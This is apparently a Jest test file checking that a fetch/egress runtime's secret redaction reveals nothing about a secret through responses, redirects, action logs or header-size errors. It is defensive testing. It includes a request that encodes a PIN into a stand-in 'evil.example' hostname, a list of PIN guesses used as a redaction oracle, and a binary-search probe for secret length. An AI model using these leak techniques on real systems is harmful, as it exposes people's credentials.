/** Redaction must not say what a secret is: not to a server that is none of its own, not to an action that lists guesses, not by a size. */
import { describe, expect, test } from "@jest/globals";
import { createEgressClient, createEgressRun } from "../../../host-api/fetch/index.ts";
import type { EgressPolicy, Secrets } from "../../../host-api/fetch/index.ts";
import { createRuntime } from "../../../runtime/index.ts";
import type { Outcome } from "../../../runtime/index.ts";
import { allowing, loopback } from "./loopback.ts";

const signal = new AbortController().signal;
const TOKEN = "tok-S3cr3t-0123456789";
const PIN = "271828";
const silent = { error() {}, warn() {}, info() {}, debug() {} } as never;
const GUESSES = Array.from({ length: 200 }, (_, at) => String(271_728 + at)).join("\n");

function talk(policy: EgressPolicy, secrets: Secrets) {
  const client = createEgressClient(policy);
  const run = createEgressRun({ client, secrets });
  const { secrets: placeholders } = run.preludeData as { secrets: Record<string, string> };
  const call = (name: string, args: object) => run.functions[name]!.handle({ args, signal });
  return {
    placeholders,
    send: (id: number, url: string, headers: [string, string][] = []) =>
      call("fetch.send", { id, url, method: "GET", headers, redirect: "follow" }),
    read: (id: number) => call("fetch.read", { id }),
    [Symbol.asyncDispose]: () => client.close(),
  };
}

const textOf = (bytes: Uint8Array | undefined) => Buffer.from(bytes ?? []).toString();

describe("a server that is none of the secret's own", () => {
  test("has every byte passed on as it comes, the beginning of a secret as well", async () => {
    const go = Promise.withResolvers<void>();
    await using server = await loopback(async (_request, response) => {
      response.write(`x ${TOKEN.slice(0, 12)}`);
      await go.promise;
      response.end("!");
    });
    await using door = talk(allowing(server), { TOKEN: { value: TOKEN, hosts: ["api.acme.example"] } });
    const first = await door.send(1, server.url);
    let seen = textOf(first.bytes);
    while (seen === "") seen = textOf((await door.read(1)).bytes);
    expect(seen).toBe(`x ${TOKEN.slice(0, 12)}`);
    go.resolve();
  });

  test("sees the whole value, a weak one among guesses, in bodies, heads and addresses as it sent it", async () => {
    await using server = await loopback((request, response) => {
      if (request.url === "/") return response.writeHead(302, { location: `/${PIN}?${TOKEN}` }).end();
      return response.setHeader("x-echo", `${TOKEN} ${PIN}`).end(`${TOKEN}\n${GUESSES}`);
    });
    await using door = talk(allowing(server), {
      TOKEN: { value: TOKEN, hosts: ["api.acme.example"] },
      PIN: { value: PIN, hosts: [`127.0.0.1:${server.port + 1}`] },
    });
    const { value, bytes } = await door.send(1, `${server.url}/`);
    expect(JSON.stringify(value)).not.toContain("[redacted]");
    expect(JSON.stringify(value)).toContain(`${TOKEN} ${PIN}`);
    expect(textOf(bytes)).toBe(`${TOKEN}\n${GUESSES}`);
  });

  test("learns nothing of its own refusal: the action's own words about a name that it guesses stay", async () => {
    await using server = await loopback((_request, response) => response.end("ok"));
    await using door = talk(allowing(server), { PIN: { value: PIN, hosts: ["api.acme.example"] } });
    const { value } = await door.send(1, `http://${PIN}.evil.example/`);
    expect(JSON.stringify(value)).toContain(`${PIN}.evil.example`);
  });

  test("keeps its answer as it is behind a redirect of the secret's own host, whose place is redacted", async () => {
    await using other = await loopback((_request, response) => response.end(`${TOKEN} and more`));
    await using own = await loopback((_request, response) =>
      response.writeHead(302, { location: `${other.url}/?key=${TOKEN}` }).end(),
    );
    await using door = talk(allowing(own, { private: [own.place, other.place] }), { TOKEN: { value: TOKEN, hosts: [own.place] } }); // prettier-ignore
    const { value, bytes } = await door.send(1, own.url);
    expect(value).toMatchObject({ url: `${other.url}/?key=[redacted]` });
    expect(textOf(bytes)).toBe(`${TOKEN} and more`);
  });
});

describe("what an action makes", () => {
  const source = `export async function execute_action(context) {
    const { url, guesses } = context.args;
    if (url) await (await fetch(url)).text();
    console.log(guesses);
    hand_off_conversation(context, guesses.slice(-300));
    return { guesses, [guesses.slice(0, 6)]: 1 };
  }`;
  const outcomeOf = async (url: (own: string, other: string) => string | null): Promise<Outcome> => {
    await using own = await loopback((_request, response) => response.end("own"));
    await using other = await loopback((_request, response) => response.end("other"));
    const egress = allowing(own, { private: [own.place, other.place] });
    await using runtime = await createRuntime({ egress, logger: silent });
    const context = {
      conversation: { id: "c", latestChannel: "chat" },
      args: { url: url(own.url, other.url), guesses: GUESSES },
    };
    return await runtime.execute({ action: { source }, context, secrets: { PIN: { value: PIN, hosts: [own.place] } } });
  };

  test.each([
    ["asked nothing", () => null],
    ["asked another server", (_own: string, other: string) => other],
  ])("is left as it is in a run that %s", async (_name, url) => {
    const outcome = await outcomeOf(url);
    expect(outcome.status).toBe("returned");
    expect(JSON.stringify(outcome)).not.toContain("[redacted]");
    expect(outcome.logs[0]?.message).toBe(GUESSES);
  });

  test("is redacted in a run that one of the secret's own servers answered", async () => {
    const outcome = await outcomeOf((own) => own);
    expect(outcome.returnValue).toMatchObject({ guesses: GUESSES.replace(PIN, "[redacted]") });
    expect(outcome.logs[0]?.message).toBe(GUESSES.replace(PIN, "[redacted]"));
  });
});

test("the refusal of headers that are too large says nothing of how long a secret is", async () => {
  await using server = await loopback((_request, response) => response.end("ok"));
  const longest = async (value: string, headers: (placeholder: string, fill: string) => [string, string][]) => {
    await using door = talk(allowing(server), { TOKEN: { value, hosts: ["127.0.0.1"] } });
    let [low, high] = [0, 20_000];
    for (let id = 1; low < high; id += 1) {
      const middle = Math.ceil((low + high) / 2);
      const { value: answer } = await door.send(id, server.url, headers(door.placeholders["TOKEN"]!, "x".repeat(middle)));
      if ((answer as { status?: number }).status === undefined) high = middle - 1;
      else low = middle;
    }
    return low;
  }; // prettier-ignore
  const plain = (placeholder: string, fill: string): [string, string][] => [["x-key", placeholder], ["x-fill", fill]]; // prettier-ignore
  const basic = (placeholder: string, fill: string): [string, string][] => [["authorization", `Basic ${placeholder}.basic.Ym90.`], ["x-fill", fill]]; // prettier-ignore
  for (const headers of [plain, basic]) {
    expect(await longest("abcd", headers)).toBe(await longest("a".repeat(500), headers));
    expect(await longest("abcd", headers)).toBeGreaterThan(10_000);
  }
  await using door = talk(allowing(server), { TOKEN: { value: "abcd", hosts: ["127.0.0.1"] } });
  const many = Array.from({ length: 17 }, (_, at): [string, string] => [`x-${at}`, door.placeholders["TOKEN"]!]);
  expect((await door.send(1, server.url, many)).value).toMatchObject({ error: { code: "EGRESS_REQUEST_HEADERS" } });
  expect((await door.send(2, server.url, many.slice(1))).value).toMatchObject({ status: 200 });
});
